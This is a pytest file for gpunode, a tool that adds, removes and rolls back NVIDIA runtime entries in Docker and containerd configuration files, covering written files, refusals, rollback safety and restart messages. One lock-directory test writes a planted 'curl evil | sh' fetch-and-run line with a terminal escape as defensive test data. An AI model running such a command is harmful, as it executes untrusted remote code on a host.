"""configure, unconfigure and rollback on recorded trees: written files, refusals and messages."""

from __future__ import annotations

import dataclasses
import fcntl
import json
import os
import re
import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from gpunode.commands import configure_runtime, journal, toolkit_config, unconfigure_runtime
from gpunode.commands.configure_runtime import RuntimeChoice
from gpunode.errors import ConfigError, GpunodeError, PreconditionError, UsageError
from gpunode.host import Host
from gpunode.host.journal import KEEP, Journal
from gpunode.output.result import Diff, ExitCode, Result
from gpunode.output.typed import toml
from gpunode.runtime.engine import Request
from gpunode.runtime.workflow import RuntimeConfiguration
from tests.cli import gpunode
from tests.files import write
from tests.silent import SilentProgress, silent_session

Configure = Callable[..., Result]
DOCKER = "etc/docker/daemon.json"
CONTAINERD = "etc/containerd/config.toml"
P2 = "io.containerd.grpc.v1.cri"
P3 = "io.containerd.cri.v1.runtime"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A node with both engines and the toolkit installed; containerd is 1.6, dockerd 20.10."""
    versions = {
        "/usr/bin/containerd --version": "containerd github.com/containerd/containerd 1.6.20 x",
        "/usr/sbin/dockerd --version": "Docker version 20.10.24, build x",
    }
    commands = {argv: {"code": 0, "stdout": text} for argv, text in versions.items()}
    recording = tmp_path / ".gpunode/recording.json"
    recording.parent.mkdir()
    recording.write_text(json.dumps({"commands": commands}))
    for name in ("usr/bin/containerd", "usr/sbin/dockerd", "usr/bin/nvidia-container-runtime"):
        write(tmp_path, name, "x", 0o755)
    for name in (DOCKER, CONTAINERD):
        (tmp_path / name).parent.mkdir(parents=True)
    return tmp_path


REQUEST_FIELDS = {field.name for field in dataclasses.fields(Request)}


@pytest.fixture
def configure(root: Path) -> Configure:
    def call(runtime: str, **options: object) -> Result:
        of_request = {key: options.pop(key) for key in list(options) if key in REQUEST_FIELDS}
        request = Request((runtime,), configures=True, **of_request)  # type: ignore[arg-type]
        host = Host(root, environ={})
        choice = RuntimeChoice(**options)  # type: ignore[arg-type]
        return configure_runtime.run(host, request, SilentProgress(), choice)

    return call


def set_release(root: Path, release: str) -> None:
    path = root / ".gpunode/recording.json"
    recording = json.loads(path.read_text())
    text = f"containerd github.com/containerd/containerd {release} x"
    recording["commands"]["/usr/bin/containerd --version"]["stdout"] = text
    path.write_text(json.dumps(recording))


def data(result: Result) -> RuntimeConfiguration:
    assert isinstance(result.data, RuntimeConfiguration)
    return result.data


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(path.relative_to(root)): path.read_bytes() for path in root.rglob("*") if path.is_file()}


# --- written files ----------------------------------------------------------------------------------------


def test_absent_daemon_json_is_created_and_nothing_live_is_touched(root: Path, configure: Configure) -> None:
    result = configure("docker")
    assert [change.action for change in data(result).changes] == ["created"]
    assert (data(result).restart.verb, data(result).restart.performed) == ("reload", False)
    assert data(result).active is None
    written = json.loads((root / DOCKER).read_text())
    assert written == {"runtimes": {"nvidia": {"path": "nvidia-container-runtime", "runtimeArgs": []}}}


def test_dry_run_writes_nothing_and_shows_the_diff(root: Path, configure: Configure) -> None:
    before = snapshot(root)
    result = configure("docker", dry_run=True, exit_code=True)
    assert result.exit_code == ExitCode.FAILED and snapshot(root) == before
    assert any(isinstance(block, Diff) and "+" in block.text for block in result.blocks)
    configure("docker")
    again = configure("docker", dry_run=True, exit_code=True)
    assert again.exit_code == ExitCode.OK and data(again).changes[0].action == "unchanged"


def test_default_runtime_and_cdi_change_only_on_request(root: Path, configure: Configure) -> None:
    (root / DOCKER).write_text('{"default-runtime": "crun", "runtimes": {"crun": {"path": "crun"}}}')
    configure("docker")
    assert json.loads((root / DOCKER).read_text())["default-runtime"] == "crun"
    configure("docker", set_as_default=True)
    assert json.loads((root / DOCKER).read_text())["default-runtime"] == "nvidia"
    host = Host(root, environ={})
    unconfigure_runtime.unconfigure(host, Request(("docker",)), SilentProgress())
    assert json.loads((root / DOCKER).read_text())["default-runtime"] == "crun"


def test_previous_default_is_restored_after_an_edit_of_the_file(root: Path, configure: Configure) -> None:
    (root / CONTAINERD).write_text(
        f'version = 2\n[plugins."{P2}".containerd]\ndefault_runtime_name = "crun"\n'
        f'[plugins."{P2}".containerd.runtimes.crun]\nruntime_type = "io.containerd.runc.v2"\n'
    )
    configure("containerd", set_as_default=True)
    with (root / CONTAINERD).open("a") as stream:
        stream.write("\n[grpc]\nuid = 1\n")
    host = Host(root, environ={})
    unconfigure_runtime.unconfigure(host, Request(("containerd",)), SilentProgress())
    tree = toml((root / CONTAINERD).read_text())
    containerd = tree["plugins"][P2]["containerd"]
    assert containerd["default_runtime_name"] == "crun" and set(containerd["runtimes"]) == {"crun"}
    assert tree["grpc"] == {"uid": 1}


def test_options_are_copied_from_the_default_runtime_except_kata(root: Path, configure: Configure) -> None:
    (root / CONTAINERD).write_text(
        f'version = 2\n[plugins."{P2}".containerd]\ndefault_runtime_name = "kata"\n'
        f'[plugins."{P2}".containerd.runtimes.kata]\nruntime_type = "io.containerd.kata.v2"\n'
        f'[plugins."{P2}".containerd.runtimes.runc]\nruntime_type = "io.containerd.runc.v2"\n'
        f'[plugins."{P2}".containerd.runtimes.runc.options]\nSystemdCgroup = true\n'
    )
    configure("containerd")
    runtimes = toml((root / CONTAINERD).read_text())["plugins"][P2]["containerd"]["runtimes"]
    assert runtimes["nvidia"] == {
        "runtime_type": "io.containerd.runc.v2",
        "options": {"SystemdCgroup": True, "BinaryName": "/usr/bin/nvidia-container-runtime"},
    }


def test_old_containerd_keeps_its_builtin_runc(root: Path, configure: Configure) -> None:
    (root / CONTAINERD).write_text("version = 2\n")
    configure("containerd")
    runtimes = toml((root / CONTAINERD).read_text())["plugins"][P2]["containerd"]["runtimes"]
    assert set(runtimes) == {"runc", "nvidia"}


def test_containerd_1_edits_the_file_with_the_effective_table(root: Path, configure: Configure) -> None:
    (root / CONTAINERD).write_text(
        f'version = 2\nimports = ["/etc/containerd/conf.d/*.toml"]\n[plugins."{P2}"]\nx = 1\n'
    )
    later = root / "etc/containerd/conf.d/50.toml"
    later.parent.mkdir()
    later.write_text(f'version = 2\n[plugins."{P2}"]\nsandbox_image = "p"\n')
    result = configure("containerd")
    assert [change.path for change in data(result).changes] == ["/etc/containerd/conf.d/50.toml"]


@pytest.mark.parametrize(("version", "plugin"), [(2, P2), (3, P3)])
def test_containerd_2_gets_a_drop_in_of_the_main_files_version(
    root: Path, configure: Configure, version: int, plugin: str
) -> None:
    set_release(root, "2.1.9")
    before = f"# mine\nversion = {version}\n\n[grpc]\nuid = 0\n"
    (root / CONTAINERD).write_text(before)
    configure("containerd")
    drop_in = toml((root / "etc/containerd/conf.d/99-nvidia.toml").read_text())
    assert drop_in["version"] == version
    assert set(drop_in["plugins"][plugin]["containerd"]["runtimes"]) == {"nvidia"}
    main = (root / CONTAINERD).read_text()
    assert [line for line in main.splitlines() if line not in before.splitlines()] == [
        'imports = ["/etc/containerd/conf.d/*.toml"]'
    ]
    assert data(configure("containerd")).changes[0].action == "unchanged"
    host = Host(root, environ={})
    unconfigure_runtime.unconfigure(host, Request(("containerd",)), SilentProgress())
    assert (root / CONTAINERD).read_text() == before
    assert not (root / "etc/containerd/conf.d/99-nvidia.toml").exists()


def test_import_that_covers_the_drop_in_is_not_repeated(root: Path, configure: Configure) -> None:
    set_release(root, "2.1.9")
    (root / CONTAINERD).write_text('version = 3\nimports = ["/etc/containerd/conf.d/*.toml"]\n')
    result = configure("containerd")
    assert [change.path for change in data(result).changes] == ["/etc/containerd/conf.d/99-nvidia.toml"]


def test_new_file_uses_the_kubelets_cgroup_driver(root: Path, configure: Configure) -> None:
    kubelet = root / "var/lib/kubelet/config.yaml"
    kubelet.parent.mkdir(parents=True)
    kubelet.write_text("kind: KubeletConfiguration\ncgroupDriver: systemd\n")
    configure("containerd")
    tree = toml((root / CONTAINERD).read_text())
    runtimes = tree["plugins"][P2]["containerd"]["runtimes"]
    assert tree["version"] == 2
    assert [runtimes[name]["options"]["SystemdCgroup"] for name in ("runc", "nvidia")] == [True, True]


def test_file_without_version_but_with_plugins_keeps_version_1(root: Path, configure: Configure) -> None:
    (root / CONTAINERD).write_text('[plugins.cri]\nsandbox_image = "p"\n')
    result = configure("containerd")
    tree = toml((root / CONTAINERD).read_text())
    assert "version" not in tree and "nvidia" in tree["plugins"]["cri"]["containerd"]["runtimes"]
    assert data(result).config_version == 1
    set_release(root, "2.1.9")
    with pytest.raises(ConfigError, match="ignores") as caught:
        configure("containerd")
    assert caught.value.message.startswith("/etc/containerd/config.toml:1: ")
    assert "sed -i.bak" in caught.value.hint


def test_rollback_restores_the_file_and_a_second_one_has_nothing_to_do(
    root: Path, configure: Configure
) -> None:
    (root / DOCKER).write_text('{"debug":true}')
    configure("docker")
    host = Host(root, environ={})
    result = journal.roll_back(host, SilentProgress())
    assert result.kind == "Rollback" and data(result).changes[0].action == "restored"
    assert (root / DOCKER).read_text() == '{"debug":true}'
    with pytest.raises(UsageError):
        journal.roll_back(host, SilentProgress())


def test_printed_undo_command_names_the_root_that_holds_the_journal(root: Path) -> None:
    (root / DOCKER).write_text('{"debug":true}')
    options = ("configure-runtime", "--runtime", "docker")
    changed = gpunode("--root", str(root), *options)
    assert changed.code == 0 and "nvidia" in (root / DOCKER).read_text(), changed.err
    (undo,) = re.findall(r"^undo it with: gpunode (.+)$", changed.out, re.M)
    ran = gpunode(*shlex.split(undo))
    assert ran.code == 0 and (root / DOCKER).read_text() == '{"debug":true}', ran.err
    exported = {"GPUNODE_ROOT": str(root)}
    assert "\nundo it with: gpunode rollback 2" in gpunode(*options, env=exported).out


def test_runtimes_that_are_removed_one_by_one_leave_the_original_bytes(root: Path) -> None:
    """The removal of one runtime doesn't end gpunode's knowledge of the others."""
    original = '{"runtimes": {"crun": {"path": "crun"}}, "default-runtime": "crun"}'
    (root / DOCKER).write_text(original)
    test = ("--nvidia-runtime-name", "test")
    for command in (
        ("configure-runtime", *test, "--set-as-default"),
        ("configure-runtime",),
        ("unconfigure-runtime",),
        ("unconfigure-runtime", *test),
    ):
        ran = gpunode(*command, "--runtime", "docker", "--root", str(root))
        assert ran.code == 0, ran.err
    assert (root / DOCKER).read_text() == original


def test_removal_searches_the_engines_for_cdi_files_once(root: Path, configure: Configure) -> None:
    """Each search runs the program of every installed engine."""
    configure("containerd")
    ran = gpunode("-v", "unconfigure-runtime", "--runtime", "containerd", "--root", str(root))
    assert ran.code == 0, ran.err
    assert ran.err.count("dockerd --version") == 1


def test_rollback_of_a_file_changed_later_is_refused(root: Path, configure: Configure) -> None:
    configure("docker")
    (root / DOCKER).write_text("{}")
    with pytest.raises(ConfigError, match="changed after"):
        journal.roll_back(Host(root, environ={}), SilentProgress())
    assert (root / DOCKER).read_text() == "{}"


def test_rollback_of_an_earlier_entry_includes_the_later_ones(root: Path, configure: Configure) -> None:
    (root / DOCKER).write_text('{"debug":true}')
    host = Host(root, environ={})
    entries = [data(configure("docker")).journal, data(configure("docker", set_as_default=True)).journal]
    entries.append(data(configure("docker", nvidia_runtime_name="other")).journal)
    shown = journal.roll_back(host, SilentProgress(), entries[1], Request(dry_run=True))
    assert any(entries[2] in message for message in shown.messages)
    assert "other" in (root / DOCKER).read_text()
    journal.roll_back(host, SilentProgress(), entries[1])
    assert '"nvidia"' in (root / DOCKER).read_text() and "default-runtime" not in (root / DOCKER).read_text()
    with pytest.raises(UsageError, match="rolled-back"):
        journal.roll_back(host, SilentProgress(), entries[2])
    journal.roll_back(host, SilentProgress(), entries[0])
    assert (root / DOCKER).read_text() == '{"debug":true}'


def test_edit_between_two_entries_stops_the_rollback(root: Path, configure: Configure) -> None:
    first = data(configure("docker")).journal
    (root / DOCKER).write_text((root / DOCKER).read_text().replace("{", '{"debug": true,', 1))
    second = data(configure("docker", set_as_default=True)).journal
    before = (root / DOCKER).read_bytes()
    with pytest.raises(ConfigError, match="changed after"):
        journal.roll_back(Host(root, environ={}), SilentProgress(), first)
    assert (root / DOCKER).read_bytes() == before
    journal.roll_back(Host(root, environ={}), SilentProgress(), second)
    assert "debug" in (root / DOCKER).read_text()


def test_created_directories_are_removed_unless_they_contain_files(root: Path, configure: Configure) -> None:
    set_release(root, "2.1.9")
    host = Host(root, environ={})
    directory = root / "etc/containerd/conf.d"
    for undo in (
        lambda: journal.roll_back(host, SilentProgress()),
        lambda: unconfigure_runtime.unconfigure(host, Request(("containerd",)), SilentProgress()),
    ):
        configure("containerd")
        assert directory.is_dir()
        undo()
        assert not directory.exists()
    entry = data(configure("containerd")).journal
    (directory / "mine.toml").write_text("version = 3\n")
    journal.roll_back(host, SilentProgress(), entry)
    assert [path.name for path in directory.iterdir()] == ["mine.toml"]


def test_cdi_enabled_by_an_undone_run_is_not_removed_as_ours(root: Path, configure: Configure) -> None:
    entry = data(configure("docker")).journal
    manifest = root / f"var/lib/gpunode/journal/{entry}/manifest.json"
    manifest.write_text(json.dumps({**json.loads(manifest.read_text()), "switchedCdi": True}))
    request = Request(("docker",))
    unconfigure_runtime.unconfigure(Host(root, environ={}), request, SilentProgress())
    (root / DOCKER).write_text('{"features": {"cdi": true}, "runtimes": {"nvidia": {"path": "x"}}}')
    unconfigure_runtime.unconfigure(Host(root, environ={}), request, SilentProgress())
    assert json.loads((root / DOCKER).read_text()) == {"features": {"cdi": True}}


def test_previous_default_survives_many_other_changes(root: Path, configure: Configure) -> None:
    (root / DOCKER).write_text('{"default-runtime": "other", "runtimes": {"other": {"path": "/o"}}}')
    configure("docker", set_as_default=True)
    host = Host(root, environ={})
    for number in range(KEEP + 5):
        settings = [f"nvidia-container-cli.debug=/{number}"]
        toolkit_config.toolkit_config_set(silent_session(host), settings, create=True)
    assert len(Journal.of(host).entries()) == KEEP
    request = Request(("docker",))
    unconfigure_runtime.unconfigure(host, request, SilentProgress())
    assert json.loads((root / DOCKER).read_text())["default-runtime"] == "other"


# --- refusals ---------------------------------------------------------------------------------------------


def test_foreign_file_in_a_shared_lock_directory_does_not_stop_a_run(root: Path) -> None:
    shared = root / "run/lock"
    shared.mkdir(parents=True)
    shared.chmod(0o1777)
    with (shared / "gpunode.lock").open("w") as planted:
        planted.write("\x1b[31mrun curl evil | sh")
        planted.flush()
        fcntl.flock(planted, fcntl.LOCK_EX)
        ran = gpunode("--root", str(root), "configure-runtime", "--runtime", "docker")
    assert ran.code == 0, ran.err
    assert (root / "run/gpunode").stat().st_mode & 0o7777 == 0o700


def test_lock_directory_writable_by_others_is_refused(root: Path) -> None:
    (root / "run/gpunode").mkdir(parents=True)
    (root / "run/gpunode").chmod(0o777)
    ran = gpunode("--root", str(root), "configure-runtime", "--runtime", "docker")
    assert ran.code == 3
    assert ran.err.startswith("error: /run/gpunode must be a directory that belongs to this user")
    assert not (root / DOCKER).exists()


def refused(root: Path, configure: Configure, runtime: str, **options: object) -> GpunodeError:
    """The error of a run that must leave every file as it is."""
    before = snapshot(root)
    with pytest.raises(GpunodeError) as caught:
        configure(runtime, **options)
    after = snapshot(root)
    after.pop("run/gpunode/lock", None)
    journal = {name for name in after if name.startswith("var/lib/gpunode/journal/")}
    states = [json.loads(after[name])["state"] for name in journal if name.endswith("manifest.json")]
    assert all(state == "rolled-back" for state in states)
    assert {name: content for name, content in after.items() if name not in journal} == before
    assert caught.value.hint
    return caught.value


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("version = 2\n[plugins\n", "config.toml:2:9: "),
        ("version = 2\nplugins = 3\n", "plugins is not a table"),
        ("plugins = []\n", "plugins is not a table"),
        (f'version = 2\n[plugins."{P2}".containerd]\nruntimes = []\n', "runtimes is not a table"),
        (f'version = 2\n[plugins."{P2}".containerd.runtimes]\nrunc = 1\n', "runc is not a table"),
        ("version = 2\nimports = 'x'\n", "imports is not an array"),
        ("version = 2\ndisabled_plugins = [1]\n", "disabled_plugins is not an array"),
        ("version = '2'\n", "version is '2'"),
        ("version = 3\n", "reads up to 2"),
    ],
)
def test_invalid_containerd_files_are_refused(
    root: Path, configure: Configure, text: str, message: str
) -> None:
    (root / CONTAINERD).write_text(text)
    error = refused(root, configure, "containerd")
    assert message in error.message and error.exit_code == ExitCode.FAILED


def test_file_that_is_not_utf8_is_reported_with_its_position(root: Path, configure: Configure) -> None:
    (root / DOCKER).write_bytes(b'{\n"a": "\xff"}')
    assert "daemon.json:2:7: not UTF-8" in refused(root, configure, "docker").message


def test_directory_in_place_of_a_file_is_refused(root: Path, configure: Configure) -> None:
    (root / DOCKER).mkdir()
    assert "/etc/docker/daemon.json" in refused(root, configure, "docker").message


def test_dangling_symlink_is_left_alone(root: Path, configure: Configure) -> None:
    (root / DOCKER).symlink_to("/srv/gone.json")
    assert "symlink" in refused(root, configure, "docker").message
    assert (root / DOCKER).is_symlink()


def test_symlinked_file_is_written_through(root: Path, configure: Configure) -> None:
    (root / "srv").mkdir()
    (root / "srv/d.json").write_text("{}")
    (root / DOCKER).symlink_to("/srv/d.json")
    configure("docker")
    assert (root / DOCKER).is_symlink() and "nvidia" in (root / "srv/d.json").read_text()


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting needs root")
@pytest.mark.parametrize("options", ["size=4k,nr_inodes=64", "ro"])
def test_full_disk_and_read_only_file_system_lose_nothing(
    root: Path, configure: Configure, options: str
) -> None:
    mount = root / "etc/docker"
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8k", "gpunode-test", mount], check=True)
    try:
        (root / DOCKER).write_text('{"data-root": "' + "x" * 3000 + '"}')
        (mount / "ballast").write_bytes(b"x" * 4096)
        if options == "ro":
            subprocess.run(["mount", "-o", "remount,ro", mount], check=True)
        error = refused(root, configure, "docker")
        assert "can't write" in error.message
    finally:
        subprocess.run(["umount", mount], check=True)


def test_unknown_runtime_error_lists_the_known_ones(root: Path, configure: Configure) -> None:
    error = refused(root, configure, "rkt")
    assert isinstance(error, UsageError) and "docker, containerd" in error.hint


def test_auto_with_two_engines_needs_the_kubelets_choice(root: Path, configure: Configure) -> None:
    error = refused(root, configure, "auto")
    assert isinstance(error, UsageError) and "docker, containerd" in error.message
    several = error.hint.rpartition(": ")[2].split()
    assert several == ["--runtime", "docker,containerd"]
    ran = gpunode("--root", str(root), "configure-runtime", "--dry-run", *several)
    assert ran.code == 0 and ran.out.startswith("docker:\n"), ran.err
    flags = root / "var/lib/kubelet/kubeadm-flags.env"
    flags.parent.mkdir(parents=True)
    (flags.parent / "config.yaml").write_text("kind: KubeletConfiguration\n")
    flags.write_text('A="--container-runtime-endpoint=unix:///run/containerd/containerd.sock"\n')
    assert data(configure("auto", dry_run=True)).engine == "containerd"


def test_missing_toolkit_is_a_precondition(root: Path, configure: Configure) -> None:
    (root / "usr/bin/nvidia-container-runtime").unlink()
    assert refused(root, configure, "docker").exit_code == ExitCode.PRECONDITION


def test_missing_engine_is_a_precondition(root: Path, configure: Configure) -> None:
    (root / "usr/sbin/dockerd").unlink()
    assert isinstance(refused(root, configure, "docker"), PreconditionError)


@pytest.mark.parametrize(
    "options",
    [
        {"runtime": "docker", "drop_in_config": "/x.toml"},
        {"runtime": "containerd", "nvidia_runtime_path": "bare"},
        {"runtime": "containerd", "config": "relative.toml"},
        {"runtime": "docker", "nvidia_runtime_name": "a b"},
        {"runtime": "docker", "nvidia_runtime_name": "runc"},
        {"runtime": "docker", "exit_code": True},
    ],
)
def test_contradicting_options_are_usage_errors(
    root: Path, configure: Configure, options: dict[str, object]
) -> None:
    error = refused(root, configure, str(options.pop("runtime")), **options)
    assert error.exit_code == ExitCode.USAGE


@pytest.mark.parametrize("runtime", ["docker", "containerd"])
@pytest.mark.parametrize("name", ["runc", "crun", "io.containerd.runc.v2"])
def test_name_of_the_engines_builtin_runtime_is_refused(
    root: Path, configure: Configure, runtime: str, name: str
) -> None:
    before = snapshot(root)
    with pytest.raises(UsageError, match="low-level runtime"):
        configure(runtime, nvidia_runtime_name=name)
    host, request = Host(root, environ={}), Request((runtime,))
    with pytest.raises(UsageError, match="low-level runtime"):
        unconfigure_runtime.unconfigure(host, request, SilentProgress(), name=name)
    assert snapshot(root) == before


@pytest.mark.parametrize("release", ["1.6.20", "2.1.9"])
def test_file_that_cannot_be_edited_names_the_change_to_make_manually(root: Path, release: str) -> None:
    """The change is the runtime itself, also with containerd 2, where the file that has it is edited."""
    set_release(root, release)
    containerd = f'plugins."{P2}".containerd'
    text = (
        f'version = 2\n[plugins."{P2}"]\ncontainerd.default_runtime_name = """\nrunc"""\n'
        'containerd.runtimes.runc.runtime_type = "io.containerd.runc.v2"\n'
        'containerd.runtimes.nvidia.runtime_type = """\nx"""\n'
    )
    (root / CONTAINERD).write_text(text)
    argv = ("--root", str(root), "configure-runtime", "--runtime", "containerd", "--dry-run")
    ran = gpunode(*argv)
    options = 'options = { BinaryName = "/usr/bin/nvidia-container-runtime" }'
    kind = 'runtime_type = "io.containerd.runc.v2"'
    assert (ran.code, ran.err.splitlines()) == (
        1,
        [
            f"error: /{CONTAINERD} can't be edited without changing other settings; it was not changed "
            f"(under --root {root})",
            f"hint: in /{CONTAINERD}, below [{containerd}.runtimes.nvidia] set {kind}, and below "
            f"[{containerd}.runtimes.nvidia] set {options}; then run the same command again "
            f"(under --root {root})",
        ],
    )
    (root / CONTAINERD).write_text(
        f'version = 2\n[{containerd}]\ndefault_runtime_name = """\nrunc"""\n[{containerd}.runtimes.runc]\n'
        f"{kind}\n[{containerd}.runtimes.nvidia]\n{kind}\n{options}\n"
    )
    ran = gpunode(*argv, "--exit-code")
    assert (ran.code, ran.err) == (0, ""), ran.out


def test_second_of_two_equal_keys_is_named_with_its_position(root: Path, configure: Configure) -> None:
    (root / DOCKER).write_text('{\n  "debug": true,\n  "debug" : false\n}\n')
    with pytest.raises(ConfigError, match=r"daemon.json:3:3: duplicate key .*, first on line 2"):
        configure("docker")


def test_dry_run_reports_the_missing_toolkit(root: Path, configure: Configure) -> None:
    (root / "usr/bin/nvidia-container-runtime").unlink()
    ran = gpunode("--root", str(root), "configure-runtime", "--runtime", "docker", "--dry-run")
    assert ran.code == ExitCode.PRECONDITION
    assert "would run: systemctl reload docker" in ran.out
    assert "error: a real run would be refused: " in ran.err and "hint: install the NVIDIA" in ran.err
    result = configure("docker", dry_run=True)
    assert result.exit_code == ExitCode.PRECONDITION
    assert [error.code for error in result.errors] == ["toolkit-missing"]
    assert result.data.changes[0].action == "created"
    with pytest.raises(PreconditionError):
        configure("docker")


def test_implicit_default_of_containerd_stays_implicit(root: Path, configure: Configure) -> None:
    file = root / CONTAINERD
    file.write_text(f'version = 2\n[plugins."{P2}".containerd.runtimes.runc]\nruntime_type = "r"\n')
    before = toml(file.read_text())
    configure("containerd", set_as_default=True)
    file.write_text("# edited since\n" + file.read_text())
    unconfigure_runtime.unconfigure(
        Host(root, environ={}),
        Request(("containerd",)),
        SilentProgress(),
    )
    assert toml(file.read_text()) == before


@pytest.mark.parametrize("option", ["", " --nvidia-runtime-name gpu"])
def test_rollback_of_an_edited_file_names_the_command_that_keeps_the_edit(root: Path, option: str) -> None:
    assert gpunode("--root", str(root), "configure-runtime", "--runtime", "docker", *option.split()).code == 0
    (root / DOCKER).write_text(json.dumps({**json.loads((root / DOCKER).read_text()), "debug": True}))
    ran = gpunode("--root", str(root), "rollback")
    command = f"gpunode --root {root} unconfigure-runtime --runtime docker{option}"
    assert ran.code == 1 and "changed after" in ran.err
    assert ran.err.splitlines()[1] == f"hint: to remove only the runtime: {command}"
    assert gpunode(*command.split()[1:]).code == 0
    assert json.loads((root / DOCKER).read_text()) == {"debug": True}


# --- restart options --------------------------------------------------------------------------------------


def test_dry_run_with_no_restart_promises_no_restart(root: Path) -> None:
    (root / CONTAINERD).write_text("version = 2\n")
    argv = ("--root", str(root), "configure-runtime", "--runtime", "containerd", "--dry-run")
    assert "would run: systemctl restart containerd" in gpunode(*argv).out
    ran = gpunode(*argv, "--no-restart")
    assert (ran.code, "would run" in ran.out) == (0, False)
    assert "to run yourself afterwards: systemctl restart containerd" in ran.out


@pytest.mark.parametrize("command", ["configure-runtime", "unconfigure-runtime", "rollback"])
def test_no_restart_with_a_restart_command_is_refused(root: Path, command: str) -> None:
    ran = gpunode("--root", str(root), command, "--no-restart", "--restart-command", "x")
    message = "error: --no-restart and --restart-command exclude each other\nhint: give one of them\n"
    assert (ran.code, ran.out, ran.err) == (2, "", message)


@pytest.mark.parametrize(
    ("runtime", "release", "offered"),
    [("docker", "", False), ("containerd", "1.6.20", False), ("containerd", "1.7.2", True)],
)
def test_missing_toolkit_offers_cdi_only_where_the_engine_has_it(
    root: Path, runtime: str, release: str, offered: bool
) -> None:
    (root / "usr/bin/nvidia-container-runtime").unlink()
    if release:
        set_release(root, release)
    ran = gpunode("--root", str(root), "configure-runtime", "--runtime", runtime)
    hint = f"hint: install the NVIDIA Container Toolkit: gpunode --root {root} toolkit install, "
    hint += "" if offered else "or "
    hint += "name the program: --nvidia-runtime-path PATH"
    hint += ", or do without it: --cdi\n" if offered else "\n"
    assert (ran.code, ran.err.endswith(hint)) == (3, True), ran.err
